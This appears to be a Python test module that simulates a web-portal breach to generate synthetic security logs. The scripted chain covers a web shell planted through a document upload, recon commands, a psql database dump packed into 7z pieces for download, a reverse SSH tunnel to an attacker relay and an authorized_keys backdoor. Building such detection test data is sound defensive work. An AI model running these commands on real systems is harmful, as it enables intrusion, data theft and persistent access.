"""The customers' portal takes a page of a program for a paper; through it somebody reads the database, and stays."""

from __future__ import annotations

import shlex
from dataclasses import dataclass
from random import Random
from typing import Any

from watchfloor.testing.company.attacks.plan import Attack
from watchfloor.testing.company.clock import MINUTE, SECOND
from watchfloor.testing.company.internet import anywhere
from watchfloor.testing.company.people import Machine
from watchfloor.testing.company.world import World

_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0"
_FETCHER = "Wget/1.21.4"
_PROBES = (
    ("GET", "/bookings/new", 200), ("POST", "/bookings/71344/documents", 415), ("POST", "/bookings/71344/documents", 201),
    ("GET", "/bookings/71344/documents/3", 200), ("POST", "/bookings/71344/documents", 500),
    ("GET", "/bookings/71344/documents/..%5c3", 404), ("POST", "/bookings/71344/documents", 413),
    ("GET", "", 403), ("GET", "/bookings/71345/documents/1", 403),
    ("GET", "/bookings/71344/documents/%2e%2e%2f3", 400),
)  # fmt: skip
_COMMANDS = (
    "id", "hostname -f", "cat /etc/os-release", "ls -la /opt/tracking/conf", "cat /opt/tracking/conf/application.properties",
    "getent passwd", "find / -xdev -perm -4000 -type f", "ip -br addr", "crontab -l",
)  # fmt: skip
_JAVA = "/usr/lib/jvm/java-21-openjdk-21.0.8.0.9-1.el9.x86_64/"
_RUNNING = (
    f"{_JAVA}bin/java -Xmx3g -classpath /opt/tomcat/bin/bootstrap.jar org.apache.catalina.startup.Bootstrap start"
)
_ROOT = "/opt/tomcat/webapps/ROOT"
_UID, _USER = 53, "tomcat"


@dataclass(frozen=True, slots=True)
class _Scene:
    """What the steps share.

    Attributes:
        world: to act in.
        random: chance of the attack.
        machine: that the portal runs on.
        attacker: address at which the attacker comes out.
        store: address of the attacker's own server.
        parent: process id of what runs the portal.
        page: path of the page that is put there.
    """

    world: World
    random: Random
    machine: Machine
    attacker: str
    store: str
    parent: int
    page: str

    @property
    def folder(self) -> str:
        """In which the page is, as the portal names it."""
        return self.page.rpartition("/")[0]

    def asked(self, at: int, path: str, **more: Any) -> None:
        """A request of the attacker."""
        self.world.products.shop.request(at, self.attacker, path, agent=_AGENT, **more)

    def connected(self, at: int, address: str, *, sent: int, received: int, seconds: int) -> None:
        """What the firewall says of a connection to the portal when it ends."""
        target = self.world.server("balancer").address
        self.world.products.firewall.session(at, address, target, 443, sent=sent, received=received, seconds=seconds)

    def executed(self, at: int, command: str, exe: str, parent: int = 0) -> int:
        """A program of the portal's account starts."""
        return self.world.products.linux["shop"].executed(
            at, command, uid=_UID, user=_USER, exe=exe, folder="/opt/tomcat", parent=parent or self.parent
        )

    def ordered(self, at: int, command: str) -> None:
        """A command by way of the page: the request, Java's starter of programs, a shell, and what the shell starts."""
        self.asked(at, self.page, method="POST", size=self.random.randrange(60, 3_800))
        starter = self.executed(at + 20_000, f"{_JAVA}lib/jspawnhelper 21.0.8+9-LTS 61:64", f"{_JAVA}lib/jspawnhelper")
        shell = self.executed(at + 24_000, f"/bin/bash -c {shlex.quote(command)}", "/usr/bin/bash", starter)
        for number, part in enumerate(command.split(" && ")):
            name = shlex.split(part)[0]
            folder = "/usr/sbin" if name == "ip" else "/usr/bin"
            self.executed(at + 30_000 + number * SECOND, part.partition(" > ")[0], f"{folder}/{name}", shell)


def tracking_exploited(
    world: World, *, day: int, time: str, comes_from: str, stores_in: str, page: str, tunnel: str
) -> Attack:
    """A page of a program is put at the path `page`, and run; what the database knows leaves by the portal itself.

    Args:
        world: to act in.
        day: on which it begins.
        time: at which it begins.
        comes_from: country in which the attacker's connections come out.
        stores_in: country of the attacker's own server.
        page: path at the portal.
        tunnel: host name of that server.
    """
    attack = Attack(
        "tracking", "The customers' portal is exploited, and the database's content leaves", "incident", world
    )
    random = world.chance("attack:tracking")
    attacker, store = (anywhere(random, country, "hosting").address for country in (comes_from, stores_in))
    scene = _Scene(world, random, world.server("shop"), attacker, store, world.products.linux["shop"].pid(), page)
    at = world.week.at(day, time)
    _probed(attack, scene, at)
    _placed(attack, scene, at + 38 * MINUTE)
    _commanded(attack, scene, at + 41 * MINUTE)
    _read(attack, scene, at + 55 * MINUTE)
    _taken(attack, scene, at + 68 * MINUTE)
    _tunnelled(attack, scene, at + 92 * MINUTE, tunnel)
    _returned(attack, scene, at + 101 * MINUTE)
    return attack


def _probed(attack: Attack, scene: _Scene, at: int) -> None:
    what = "Somebody with an account of a customer tries what the portal takes as a paper"
    with attack.step(at, what, "T1595.002", scene.attacker, scene.machine.name, told=False):
        scene.asked(at, "/account/login", method="POST", status=302, size=420)
        for number in range(64):
            method, path, status = _PROBES[number % len(_PROBES)]
            moment = at + (number + 1) * 31 * SECOND + scene.random.randrange(14 * SECOND)
            scene.asked(
                moment,
                path or f"{scene.folder}/",
                method=method,
                status=status,
                size=scene.random.randrange(240, 6_100),
            )
        scene.connected(at + 36 * MINUTE, scene.attacker, sent=960_000, received=410_000, seconds=2_150)


def _placed(attack: Attack, scene: _Scene, at: int) -> None:
    linux = scene.world.products.linux["shop"]
    what = "A page of a program is taken as a paper, lands among the portal's own pages, and answers"
    with attack.step(at, what, "T1505.003", scene.attacker, scene.machine.name, scene.page):
        scene.asked(at, "/bookings/71344/documents", method="POST", status=201, size=88)
        linux.wrote(
            at + 90_000, _ROOT + scene.page, uid=_UID, user=_USER, exe=f"{_JAVA}bin/java", command=_RUNNING,
            folder="/opt/tomcat", pid=scene.parent, key="webapps",
        )  # fmt: skip
        scene.asked(at + 26 * SECOND, scene.page, size=19)


def _commanded(attack: Attack, scene: _Scene, at: int) -> None:
    what = "Commands are run by the page as the portal's account"
    with attack.step(at, what, "T1059.004", scene.attacker, scene.machine.name, _USER):
        for number, command in enumerate(_COMMANDS):
            scene.ordered(at + number * 47 * SECOND, command)
        scene.connected(at + 9 * MINUTE, scene.attacker, sent=31_000, received=96_000, seconds=530)


def _read(attack: Attack, scene: _Scene, at: int) -> None:
    world, database = scene.world, scene.world.server("database")
    what = "The database is read with the portal's own password, and packed among its pages"
    with attack.step(at, what, "T1213.006", scene.machine.name, database.name, _USER, told=False):
        url = f"postgresql://tracking@{database.address}/tracking"
        copied = "COPY (SELECT * FROM consignment JOIN party USING (party_id)) TO STDOUT WITH CSV HEADER"
        scene.ordered(at, f'psql {url} -c "\\dt+"')
        scene.ordered(at + 3 * MINUTE, f'psql {url} -c "{copied}" > /var/lib/tracking/preview/70011.csv')
        world.products.firewall.session(
            at + 8 * MINUTE,
            scene.machine.address,
            database.address,
            5432,
            sent=190_000,
            received=1_310_000_000,
            seconds=290,
        )
        pack = f"7za a -mx1 -v64m {_ROOT}{scene.folder}/forms.7z /var/lib/tracking/preview/70011.csv"
        scene.ordered(at + 9 * MINUTE, f"{pack} && rm -f /var/lib/tracking/preview/70011.csv")
        for number in range(7):
            world.products.linux["shop"].wrote(
                at + 9 * MINUTE + (4 + 9 * number) * SECOND, f"{_ROOT}{scene.folder}/forms.7z.{number + 1:03}", uid=_UID,
                user=_USER, exe="/usr/bin/7za", command=pack, folder="/opt/tomcat", key="webapps",
            )  # fmt: skip


def _taken(attack: Attack, scene: _Scene, at: int) -> None:
    what = "The pieces are fetched from the portal like any other of its files"
    with attack.step(at, what, "T1041", scene.machine.name, scene.store):
        for number in range(7):
            size = 67_108_864 if number < 6 else 21_774_336
            scene.world.products.shop.request(
                at + number * 105 * SECOND,
                scene.store,
                f"{scene.folder}/forms.7z.{number + 1:03}",
                size=size,
                agent=_FETCHER,
            )
            scene.connected(
                at + (number * 105 + 96) * SECOND, scene.store, sent=140_000, received=size + size // 30, seconds=96
            )
        scene.ordered(at + 15 * MINUTE, f"find {_ROOT}{scene.folder} -name forms.7z.* -delete")
        scene.connected(at + 16 * MINUTE, scene.attacker, sent=2_900, received=4_100, seconds=61)


def _tunnelled(attack: Attack, scene: _Scene, at: int, tunnel: str) -> None:
    products, address, home = scene.world.products, scene.machine.address, "/usr/share/tomcat/.ssh"
    what = "A tunnel to the attacker's server is opened from inside, and a key put there to come back through it"
    with attack.step(at, what, "T1572", scene.machine.name, scene.store, tunnel, _USER):
        scene.ordered(at, f"mkdir -p {home} && ssh-keygen -q -t ed25519 -N '' -f {home}/id_ed25519")
        options = "-o StrictHostKeyChecking=no -o ServerAliveInterval=60"
        scene.ordered(at + 2 * MINUTE, f"ssh -f -N {options} -R 8022:127.0.0.1:22 relay@{tunnel}")
        products.resolver.query(at + 2 * MINUTE + 40_000, address, tunnel, millis=57)
        products.firewall.session(
            at + 305 * MINUTE, address, scene.store, 22, sent=4_830_000, received=1_960_000, seconds=18_180
        )
        put = f"install -m 600 /var/lib/tracking/incoming/71344.txt {home}/authorized_keys"
        scene.ordered(at + 5 * MINUTE, put)
        products.linux["shop"].wrote(
            at + 5 * MINUTE + 40_000, f"{home}/authorized_keys", uid=_UID, user=_USER, exe="/usr/bin/install", command=put,
            folder="/opt/tomcat", key="keys",
        )  # fmt: skip
        scene.connected(at + 7 * MINUTE, scene.attacker, sent=3_300, received=5_200, seconds=130)


def _returned(attack: Attack, scene: _Scene, at: int) -> None:
    linux = scene.world.products.linux["shop"]
    what = "The portal's account logs in by SSH from the machine itself, out of the tunnel"
    with attack.step(at, what, "T1021.004", scene.machine.name, _USER, told=False):
        linux.ssh(at, _USER, _UID, "127.0.0.1", seconds=2_640)
        for number, command in enumerate(("id", "uname -r", "ss -antp", "cat /etc/hosts", "last -n 20")):
            linux.executed(
                at + (20 + 95 * number) * SECOND, command, uid=_UID, user=_USER, exe=f"/usr/bin/{command.partition(' ')[0]}",
                folder="/usr/share/tomcat", login=(_UID, _USER),
            )  # fmt: skip
